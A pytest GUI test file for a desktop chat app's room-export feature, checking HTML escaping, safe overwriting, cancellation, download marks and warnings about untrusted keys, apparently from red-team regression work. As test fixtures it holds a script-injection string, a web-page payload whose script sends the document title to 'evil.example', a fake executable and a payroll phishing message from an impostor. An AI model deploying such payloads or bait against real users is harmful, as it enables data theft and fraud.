"""Export room… in the real window: a real Controller and MainWindow on a temporary local
storage, the action triggered from the room's context menu and from the main menu, the
file written off the GUI thread, the notice with "Open folder"."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import html
import json
import os
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import wait_for
from desk import Desk, settings_for
from nacl.signing import SigningKey
from PySide6 import QtGui
from PySide6.QtCore import Qt, QTimer, QUrl
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import (
    QApplication,
    QFileDialog,
    QLabel,
    QLineEdit,
    QMessageBox,
    QPushButton,
)
from test_app_flows import seed

from bucket_chat_desktop import download_mark, osfiles
from bucket_chat_desktop.gui import room_export
from bucket_chat_desktop.gui.controller import Controller
from bucket_chat_desktop.gui.main_window import MainWindow
from bucket_chat_desktop.gui.models.timeline_model import Roles
from bucket_chat_desktop.gui.room_export import RoomExport
from bucket_chat_desktop.keys import load_or_create_identity, open_key_store
from bucket_chat_desktop.protocol.attachments import blob_path, file_content, is_risky_to_open
from bucket_chat_desktop.protocol.event import MESSAGE
from bucket_chat_desktop.settings import Settings, StorageSettings
from bucket_chat_desktop.storage.local import LocalStorage
from bucket_chat_desktop.sync.writer import Draft, RoomWriter

ROOM = "design"
ALICE = "alice@example.com"
REPORT = b"%PDF-1.7 the quarterly report"

pytestmark = pytest.mark.usefixtures("qt_garbage_on_main_thread")


@dataclass
class App:
    qtbot: Any
    store: Path
    key: str
    controller: Controller
    window: MainWindow
    feature: RoomExport
    opened: list[QUrl]


@pytest.fixture
def app(
    request: pytest.FixtureRequest,
    qtbot: Any,
    qloop: Any,
    home: Path,
    tmp_path: Path,
    qapp: QApplication,
) -> Iterator[App]:
    """The room; ``request.param`` (indirect): more files Bob sends after the report,
    as (name, bytes)."""
    store = tmp_path / "store"
    identity, _ = load_or_create_identity(open_key_store(user_id=ALICE), ALICE, create=True)
    storage = LocalStorage(store)
    alice = RoomWriter(storage, ROOM, ALICE, identity.signing_key, displayname="Alice")
    wait_for(qtbot, alice.create_room("Design <i>review</i>", "2026-01-05T09:00:00.000Z"))
    bob = RoomWriter(storage, ROOM, "bob@example.com", SigningKey(b"\x02" * 32), displayname="Bob")
    wait_for(qtbot, bob.send([Draft.text("Here is the report <script>alert(1)</script>")]))
    sha = hashlib.sha256(REPORT).hexdigest()
    wait_for(qtbot, storage.put_if_absent(blob_path(ROOM, sha), REPORT))
    content = file_content("report.pdf", len(REPORT), "application/pdf", sha)
    wait_for(qtbot, bob.send([Draft(MESSAGE, content)]))
    for name, data in getattr(request, "param", ()):
        sha = hashlib.sha256(data).hexdigest()
        wait_for(qtbot, storage.put_if_absent(blob_path(ROOM, sha), data))
        more = file_content(name, len(data), "application/octet-stream", sha)
        wait_for(qtbot, bob.send([Draft(MESSAGE, more)]))
    entry = StorageSettings(str(store), "Team share", [ROOM])
    settings = Settings(user_id=ALICE, displayname="Alice", storages=[entry])
    settings.last_room = f"{entry.id}/{ROOM}"
    controller = Controller(settings, identity)
    window = MainWindow(controller)
    feature = room_export.install(window, controller)
    opened: list[QUrl] = []
    feature.open_url = opened.append
    window.show()
    controller.start()
    key = f"{entry.id}/{ROOM}"
    qtbot.waitUntil(
        lambda: controller.current == key and controller.result(key) is not None, timeout=15000
    )
    qtbot.waitUntil(lambda: len(controller.result(key).timeline) >= 4, timeout=15000)
    yield App(qtbot, store, key, controller, window, feature, opened)
    if feature.notice is not None:  # a notice is a window of its own: never left behind
        with contextlib.suppress(RuntimeError):
            feature.notice.close()
    wait_for(qtbot, controller.shutdown())
    window.quitting = True
    window.close()


def _button(box: QMessageBox, text: str) -> QPushButton:
    for b in box.buttons():
        if b.text() == text and isinstance(b, QPushButton):
            return b
    raise AssertionError(f"no button {text!r} in {[b.text() for b in box.buttons()]}")


def test_export_from_the_room_menu_writes_html_and_offers_the_folder(
    app: App, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    asked: list[tuple[str, str]] = []

    def choose(suggested: str, shown: str) -> tuple[str, str]:
        asked.append((suggested, shown))
        return str(out / "design.html"), "html"

    app.feature.choose = choose
    menu = app.window.room_menu(app.key)
    [action] = [a for a in menu.actions() if a.text() == "Export room…"]
    assert action.isEnabled()
    action.trigger()
    assert asked and asked[0][1] == "Design <i>review</i>"
    assert asked[0][0].endswith("Design _i_review__i_.html")  # a safe file name
    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
    box = app.feature.notice
    assert box is not None and box.windowTitle() == "Room exported"
    assert "report.pdf" not in box.text()  # nothing failed to copy
    assert "1 attachment(s) copied" in box.text()
    html = (out / "design.html").read_text("utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script" not in html
    assert "Design &lt;i&gt;review&lt;/i&gt;" in html
    assert (out / "design_files" / "report.pdf").read_bytes() == REPORT
    shots = Path(os.environ.get("BUCKET_CHAT_SHOTS") or tmp_path)
    shots.mkdir(parents=True, exist_ok=True)
    box.grab().save(str(shots / "export-done.png"))
    _button(box, "Open folder").click()
    assert app.opened == [QUrl.fromLocalFile(str(out))]
    # the notice is shown from within the export's task, which ends just after it
    app.qtbot.waitUntil(lambda: app.feature.task is None)
    assert app.feature.progress is None


def test_export_from_the_main_menu_as_jsonl(app: App, tmp_path: Path) -> None:
    path = tmp_path / "design.jsonl"
    app.feature.choose = lambda _s, _n: (str(path), "jsonl")
    [action] = [a for a in app.window.add_menu.actions() if a.text() == "Export room…"]
    assert action.isEnabled()
    action.trigger()
    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
    lines = [json.loads(line) for line in path.read_text("ascii").splitlines()]
    assert lines[0]["format"] == "bucket-chat-export" and lines[0]["room_id"] == ROOM
    states = {line["trust"]["state"] for line in lines[1:]}
    assert states == {"verified"}
    bodies = [line["event"]["content"].get("body") for line in lines[1:]]
    assert "Here is the report <script>alert(1)</script>" in bodies


def test_a_room_read_again_during_the_export_is_exported_whole(app: App, tmp_path: Path) -> None:
    """A poll or a refresh reads the room again while it is being written (a big room's
    export takes a while): the export writes the audit it started with, whole — it used
    to fail with "export it again" (seen in CI when the folder watcher re-read the room)."""
    path = tmp_path / "again.jsonl"
    client = app.controller.client
    original = client.timeline_page
    reread: list[int] = []

    async def page_after_a_reread(*args: Any, **kwargs: Any) -> Any:
        if not reread:
            await client.reaudit(args[0])  # a new audit: the export's is now replaced
            reread.append(1)
        return await original(*args, **kwargs)

    client.timeline_page = page_after_a_reread  # type: ignore[method-assign]
    app.feature.choose = lambda _s, _n: (str(path), "jsonl")
    app.feature.start(app.key)
    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
    assert reread
    box = app.feature.notice
    assert box is not None and box.windowTitle() != "Export failed", box.text()
    lines = [json.loads(line) for line in path.read_text("ascii").splitlines()]
    assert len(lines) == 1 + len(app.controller.result(app.key).timeline)
    assert {line["trust"]["state"] for line in lines[1:]} == {"verified"}


def test_a_failed_export_says_why(app: App, tmp_path: Path) -> None:
    app.feature.choose = lambda _s, _n: (str(tmp_path / "missing" / "x.html"), "html")
    app.feature.start(app.key)
    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
    box = app.feature.notice
    assert box is not None and box.windowTitle() == "Export failed"
    assert "is not a folder" in box.text()
    app.qtbot.waitUntil(lambda: app.feature.task is None)


def test_cancelling_leaves_nothing_behind(app: App, tmp_path: Path) -> None:
    path = tmp_path / "c.html"
    client = app.controller.client
    original = client.timeline_page
    pages: list[int] = []

    async def slow_page(*args: Any, **kwargs: Any) -> Any:  # a huge room: each page is slow
        pages.append(args[2])
        await asyncio.sleep(0.3)
        return await original(*args, **kwargs)

    client.timeline_page = slow_page  # type: ignore[method-assign]
    app.feature.choose = lambda _s, _n: (str(path), "html")
    task = app.feature.start(app.key)
    assert task is not None
    progress = app.feature.progress
    assert progress is not None
    assert not app.feature.action.isEnabled()  # one export at a time
    [again] = [a for a in app.window.room_menu(app.key).actions() if a.text() == "Export room…"]
    assert not again.isEnabled()
    app.qtbot.waitUntil(lambda: bool(pages), timeout=5000)
    [cancel] = [b for b in progress.findChildren(QPushButton) if b.text() == "Cancel"]
    cancel.click()  # while a page is being read
    app.qtbot.waitUntil(task.done, timeout=10000)
    assert task.cancelled()
    assert not path.exists() and not (tmp_path / "c_files").exists()
    assert app.feature.task is None and app.feature.notice is None
    assert app.feature.action.isEnabled()


def _shown_text(label: QLabel) -> str:
    """What ``label`` shows: its text, or what Qt makes of it as rich text."""
    form = label.textFormat()
    if form == Qt.TextFormat.RichText or (
        form == Qt.TextFormat.AutoText and QtGui.Qt.mightBeRichText(label.text())
    ):
        doc = QTextDocument()
        doc.setHtml(label.text())
        return doc.toPlainText()
    return label.text()


def test_the_progress_shows_a_room_name_as_written(app: App, tmp_path: Path) -> None:
    """Red team (round 24): the progress dialog's label is Qt's guess of a format, and
    the room's name (anyone who can write the storage can create a room) went into it
    as it was: "Design <i>review</i>" was shown as "Design review" in italics, and
    markup could draw whatever it liked in the app's own dialog (images, big coloured
    text). Now the name is shown as written, also in the "n of m events" updates."""
    client = app.controller.client
    original = client.timeline_page
    pages: list[int] = []

    async def slow_page(*args: Any, **kwargs: Any) -> Any:
        pages.append(args[2])
        await asyncio.sleep(0.3)
        return await original(*args, **kwargs)

    client.timeline_page = slow_page  # type: ignore[method-assign]
    app.feature.choose = lambda _s, _n: (str(tmp_path / "p.html"), "html")
    task = app.feature.start(app.key)
    assert task is not None and app.feature.progress is not None
    [label] = app.feature.progress.findChildren(QLabel)
    assert "“Design <i>review</i>”" in _shown_text(label)
    app.qtbot.waitUntil(lambda: " events" in label.text(), timeout=10000)
    assert "“Design <i>review</i>”: " in _shown_text(label)
    app.qtbot.waitUntil(task.done, timeout=20000)


# -- the save dialog and the user's own files ----------------------------------------------


def _windows(kind: type[Any]) -> list[Any]:
    return [w for w in QApplication.topLevelWidgets() if isinstance(w, kind) and w.isVisible()]


def _save_as(app: App, typed: str, replace: bool) -> tuple[Any, list[str]]:
    """``feature.start`` through the real save dialog: ``typed`` typed as the file name,
    then Save; a "replace it?" question answered ``replace`` (its text kept). A dialog
    still open after the question (answered No) is then cancelled, as a person would."""
    asked: list[str] = []
    answer = QMessageBox.StandardButton.Yes if replace else QMessageBox.StandardButton.No

    def on_question() -> None:
        boxes = [b for b in _windows(QMessageBox) if b is not app.feature.notice]
        if boxes:
            question.stop()
            asked.append(boxes[0].text())
            boxes[0].button(answer).click()

    def on_dialog() -> None:
        dialogs = _windows(QFileDialog)
        if not dialogs:
            return
        typing.stop()
        dialog = dialogs[0]
        edit = dialog.findChild(QLineEdit, "fileNameEdit")
        assert isinstance(edit, QLineEdit)
        edit.setText(typed)
        question.start()  # a question comes up inside accept(), in a loop of its own
        dialog.accept()  # what Save does
        if dialog.isVisible():
            dialog.reject()

    question, typing = QTimer(), QTimer()
    question.setInterval(20)
    question.timeout.connect(on_question)
    typing.setInterval(20)
    typing.timeout.connect(on_dialog)
    typing.start()
    try:
        task = app.feature.start(app.key)
    finally:
        typing.stop()
        question.stop()
    return task, asked


def test_a_name_typed_without_html_is_asked_about_before_it_replaces_one(
    app: App, tmp_path: Path
) -> None:
    """Red team (F4): "Q4" typed in the save dialog was made "Q4.html" after the dialog
    had asked about "Q4" (nothing there), and the user's Q4.html was replaced unasked.
    Now the dialog's default suffix makes its own question name Q4.html; No keeps it."""
    docs = tmp_path / "Documents"
    docs.mkdir()
    (docs / "Q4.html").write_bytes(b"ALICE'S EARLIER REPORT")
    task, asked = _save_as(app, str(docs / "Q4"), replace=False)
    assert task is None
    assert len(asked) == 1 and "Q4.html already exists" in asked[0], asked
    assert (docs / "Q4.html").read_bytes() == b"ALICE'S EARLIER REPORT"
    assert sorted(p.name for p in docs.iterdir()) == ["Q4.html"]


def test_a_name_with_another_suffix_is_asked_about_too(app: App, tmp_path: Path) -> None:
    """ "Q4.v2" has a suffix: the dialog leaves it as it is and asks about nothing there;
    the export writes "Q4.v2.html", so the app asks before replacing that one."""
    (tmp_path / "Q4.v2.html").write_bytes(b"ALICE'S EARLIER REPORT")
    task, asked = _save_as(app, str(tmp_path / "Q4.v2"), replace=False)
    assert task is None
    assert len(asked) == 1 and "Q4.v2.html already exists" in asked[0], asked
    assert (tmp_path / "Q4.v2.html").read_bytes() == b"ALICE'S EARLIER REPORT"


def test_an_export_beside_the_users_files_folder_leaves_it_alone(app: App, tmp_path: Path) -> None:
    """Red team (F4): beside a ``Q4_files`` the user already had (a browser's "Save page,
    complete"), the export replaced the user's ``report.pdf`` with a member's file of
    that name. Replacing Q4.html is what the user agreed to; their folder stays as it
    was, the attachments go to ``Q4_files (2)``, and the notice says so."""
    docs = tmp_path / "Documents"
    (docs / "Q4_files").mkdir(parents=True)
    (docs / "Q4_files" / "report.pdf").write_bytes(b"ALICE'S REAL REPORT")
    (docs / "Q4.html").write_bytes(b"ALICE'S EARLIER REPORT")
    task, asked = _save_as(app, str(docs / "Q4"), replace=True)
    assert task is not None and len(asked) == 1 and "Q4.html" in asked[0]
    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
    box = app.feature.notice
    assert box is not None and box.windowTitle() == "Room exported", box.text()
    assert (docs / "Q4_files" / "report.pdf").read_bytes() == b"ALICE'S REAL REPORT"
    assert sorted(p.name for p in (docs / "Q4_files").iterdir()) == ["report.pdf"]
    assert (docs / "Q4_files (2)" / "report.pdf").read_bytes() == REPORT
    html = (docs / "Q4.html").read_text("utf-8")
    assert 'href="Q4_files%20%282%29/report.pdf"' in html
    assert "<b>Q4_files (2)</b>" in box.text()
    assert "Q4_files already held other files: it was left as it was" in box.text()
    app.qtbot.waitUntil(lambda: app.feature.task is None)


@pytest.mark.parametrize("app", [[("zz-later.bin", b"x" * 10)]], indirect=True)
def test_a_cancelled_export_leaves_the_users_files(app: App, tmp_path: Path) -> None:
    """Red team (F4): cancelled after it had replaced the user's ``report.pdf`` in their
    ``Q4_files``, the export deleted every file it had written: the user's was gone."""
    docs = tmp_path / "Documents"
    (docs / "Q4_files").mkdir(parents=True)
    (docs / "Q4_files" / "report.pdf").write_bytes(b"ALICE'S REAL REPORT")
    client = app.controller.client
    original = client.download_blob
    asked: list[str] = []

    async def second_file_waits(ref: Any, info: Any, *args: Any, **kwargs: Any) -> bytes:
        asked.append(info.name)  # report.pdf is written before the next is asked for
        if info.name == "zz-later.bin":
            await asyncio.Event().wait()  # cancelled while it waits
        return await original(ref, info, *args, **kwargs)

    client.download_blob = second_file_waits  # type: ignore[method-assign]
    app.feature.choose = lambda _s, _n: (str(docs / "Q4.html"), "html")
    task = app.feature.start(app.key)
    assert task is not None
    app.qtbot.waitUntil(lambda: "zz-later.bin" in asked, timeout=20000)
    assert asked == ["report.pdf", "zz-later.bin"]
    app.feature.cancel()
    app.qtbot.waitUntil(task.done, timeout=10000)
    assert task.cancelled()
    assert (docs / "Q4_files" / "report.pdf").read_bytes() == b"ALICE'S REAL REPORT"
    assert sorted(p.name for p in docs.iterdir()) == ["Q4_files"]


def test_cancel_while_the_page_takes_its_name_says_the_export_finished(
    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Red team rt65 (finding 3): Cancel pressed while the finished page was flushed,
    renamed over the user's earlier page (whose replacement the dialog asked about) and
    synced: the rename was done, then the cancel was raised, every attachment the new
    page links was removed, and the app said "cancelled: nothing was written". Now the
    step runs to its end: the page and its files stay, and the notice says the export
    finished, the cancel having come too late. The folder's sync is made slow (a slow
    disk); the export, the storage, the window and its Cancel button are real."""
    out = tmp_path / "out"
    out.mkdir()
    page = out / "design.html"
    page.write_bytes(b"ALICE'S EARLIER EXPORT, replaced on purpose")
    syncing = threading.Event()
    go_on = threading.Event()
    real_fsync_dir = osfiles.fsync_dir

    def slow_disk(folder: Any) -> None:  # the page's folder, synced once it took its name
        if isinstance(folder, Path) and folder == out and not syncing.is_set():
            syncing.set()
            go_on.wait(10)
        real_fsync_dir(folder)

    monkeypatch.setattr(osfiles, "fsync_dir", slow_disk)
    told: list[tuple[str, str]] = []
    app.controller.error.connect(lambda what, msg: told.append((what, msg)))
    app.feature.choose = lambda _s, _n: (str(page), "html")  # "replace it?": yes
    task = app.feature.start(app.key)
    assert task is not None
    try:
        app.qtbot.waitUntil(syncing.is_set, timeout=20000)
        progress = app.feature.progress
        assert progress is not None
        [cancel] = [b for b in progress.findChildren(QPushButton) if b.text() == "Cancel"]
        cancel.click()
        app.qtbot.wait(100)  # the cancel reaches the task while the page is synced
        assert not task.done()
    finally:
        go_on.set()
    app.qtbot.waitUntil(task.done, timeout=10000)
    assert not task.cancelled() and told == []
    html = page.read_text("utf-8")
    assert "ALICE'S EARLIER EXPORT" not in html
    assert 'href="design_files/report.pdf"' in html
    assert (out / "design_files" / "report.pdf").read_bytes() == REPORT
    box = app.feature.notice
    assert box is not None and box.windowTitle() == "Room exported"
    assert "the cancel came after the page was written" in box.text()
    assert "1 attachment(s) copied" in box.text()
    shots = Path(os.environ.get("BUCKET_CHAT_SHOTS") or tmp_path)
    shots.mkdir(parents=True, exist_ok=True)
    box.grab().save(str(shots / "export-cancel-too-late.png"))
    assert app.feature.task is None and app.feature.action.isEnabled()


PROGRAM = b"MZ\x90\x00 a hostile member's program"


def exported(app: App, tmp_path: Path) -> Path:
    """The room exported as ``<tmp>/out/design.html`` through the window's export, to
    its notice "Room exported": the folder it is in."""
    out = tmp_path / "out"
    out.mkdir()
    app.feature.choose = lambda _s, _n: (str(out / "design.html"), "html")
    app.feature.start(app.key)
    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
    box = app.feature.notice
    assert box is not None and box.windowTitle() == "Room exported", box.text()
    return out


@pytest.mark.parametrize("app", [[("setup.exe", PROGRAM)]], indirect=True)
def test_the_files_an_export_copies_are_marked_as_downloaded(
    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Red team rt65 (finding 4): Open and Save as… mark their copies as downloaded
    (Mark-of-the-Web, macOS quarantine), the export's were not: double-clicked in the
    folder **Open folder** shows, ``setup.exe`` ran without SmartScreen's prompt and a
    PDF or Office file opened outside Protected View. As on Windows (the mark is the
    stream ``<file>:Zone.Identifier``; on Linux a file of that name beside it)."""
    monkeypatch.setattr(download_mark, "PLATFORM", "win32")
    out = exported(app, tmp_path)
    files = out / "design_files"
    assert (files / "report.pdf").read_bytes() == REPORT
    assert (files / "setup.exe").read_bytes() == PROGRAM
    for name in ("report.pdf", "setup.exe"):
        mark = files / f"{name}:Zone.Identifier"
        assert mark.read_bytes() == b"[ZoneTransfer]\r\nZoneId=3\r\n", name
    app.qtbot.waitUntil(lambda: app.feature.task is None)


WEB_PAGE = (
    b"Agenda for Monday\n"
    + b"- budget review\n" * 320  # past the 4 KB the bytes are looked at
    + b'<script>fetch("https://evil.example/opened?by=" + document.title)</script>\n'
)


@pytest.mark.parametrize(
    "app", [[("agenda.shtm", WEB_PAGE), ("minutes.xhtm", WEB_PAGE + b" ")]], indirect=True
)
def test_a_web_page_named_shtm_or_xhtm_is_copied_but_not_linked(app: App, tmp_path: Path) -> None:
    """Red team rt65 (finding 5): Chrome and Edge give ``.shtm`` text/html and ``.xhtm``
    application/xhtml+xml (their own table, which no platform overrides), but neither
    was a web page to the app: the export linked ``design_files/agenda.shtm`` from the
    page read in that browser (one click ran the member's script) and the app offered
    Open. Now both are save-only, and the export copies them without a link."""
    out = exported(app, tmp_path)
    html = (out / "design.html").read_text("utf-8")
    assert (out / "design_files" / "agenda.shtm").read_bytes() == WEB_PAGE
    assert (out / "design_files" / "minutes.xhtm").read_bytes() == WEB_PAGE + b" "
    assert 'href="design_files/report.pdf"' in html  # an ordinary file is linked
    for name in ("agenda.shtm", "minutes.xhtm"):
        assert f'href="design_files/{name}"' not in html
        assert is_risky_to_open(name)  # the app's Open is disabled for it
    app.qtbot.waitUntil(lambda: app.feature.task is None)


# -- a key another room does not trust -----------------------------------------------------

CAROL = "carol@example.com"
BAIT = "PAYROLL: Carol here, the new IBAN is XX00 EVIL"


def _export(desk: Desk, key: str, path: Path, fmt: str) -> str:
    feature = desk.window.room_export
    feature.choose = lambda _s, _n: (str(path), fmt)
    assert feature.start(key) is not None
    desk.qtbot.waitUntil(lambda: feature.task is None and path.exists(), timeout=20_000)
    return path.read_text("utf-8")


def test_the_export_marks_a_key_another_room_does_not_trust_as_the_timeline_does(
    qtbot: Any, launch: Callable[..., Desk], tmp_path: Path
) -> None:
    """Red team rt54: an impostor's key that "General" marks "key changed" for Carol
    made a room of its own, "Payroll", and wrote there as Carol (tests/gui/
    test_key_doubted_elsewhere.py). The timeline marks those rows ⚠ and says which room
    does not trust the key (docs/SECURITY.md: wherever such a message appears); the
    room's export wrote "✓ verified" and nothing else. Both formats now carry the
    timeline's own sentence; General's export, whose own doubt its rows show already,
    carries none."""
    store = tmp_path / "shared"
    storage = LocalStorage(store)
    impostor = SigningKey(b"\x4d" * 32)

    async def write() -> None:
        await seed(storage, "general", "General", ["Welcome, everyone!"])  # Carol's own key
        general = RoomWriter(storage, "general", CAROL, impostor, displayname="Carol")
        await general.send([Draft.text("Carol again, from a new laptop")])
        payroll = RoomWriter(storage, "payroll", CAROL, impostor, displayname="Carol")
        await payroll.create_room("Payroll", "2026-06-01T00:00:00.000Z")
        await payroll.send([Draft.text(BAIT)])

    wait_for(qtbot, write())
    desk = launch(settings_for(store, ["payroll", "general"]))
    desk.wait_loaded("payroll", "general")
    index = desk.model("payroll").index(desk.wait_index("payroll", BAIT))
    qtbot.waitUntil(
        lambda: "not trusted for" in str(index.data(Roles.SenderWarning)), timeout=15_000
    )
    said = str(index.data(Roles.SenderWarning))  # the timeline's sentence
    assert said.startswith("the key that signed this is not trusted for carol@example.com in")
    assert "'General' (general)" in said

    page = _export(desk, desk.key("payroll"), tmp_path / "payroll.html", "html")
    start = page.rindex('<li class="msg', 0, page.index(BAIT))
    row = page[start : page.index("</li>", start)]
    assert "✓ verified" in row  # this room's verdict stays, and is not all it says
    assert 'class="msg t-verified doubted"' in row
    meta = row[: row.index("</div>")]
    assert "⚠" in meta and f'title="{html.escape(said)}"' in meta, meta
    assert html.escape(said[:1].upper() + said[1:]) in row, row
    heads = [li.split(">", 1)[0] for li in page.split("<li ")[1:]]
    assert len(heads) >= 2 and all(" doubted" in h for h in heads), heads  # its join too

    lines = _export(desk, desk.key("payroll"), tmp_path / "payroll.jsonl", "jsonl")
    rows = [json.loads(x) for x in lines.splitlines()[1:]]
    [bait] = [r for r in rows if r["event"]["content"].get("body") == BAIT]
    assert bait["trust"]["state"] == "verified"
    assert bait["trust"]["doubted_elsewhere"] == said
    # every row the impostor's key signed there (its join too), as the timeline has them
    assert all(r["trust"].get("doubted_elsewhere") == said for r in rows), rows

    # General does not trust the key itself (its rows say "key changed"): no room
    # elsewhere doubts what signed there, Carol's real key included
    general = _export(desk, desk.key("general"), tmp_path / "general.jsonl", "jsonl")
    assert '"doubted_elsewhere"' not in general
    assert "Carol again" in general
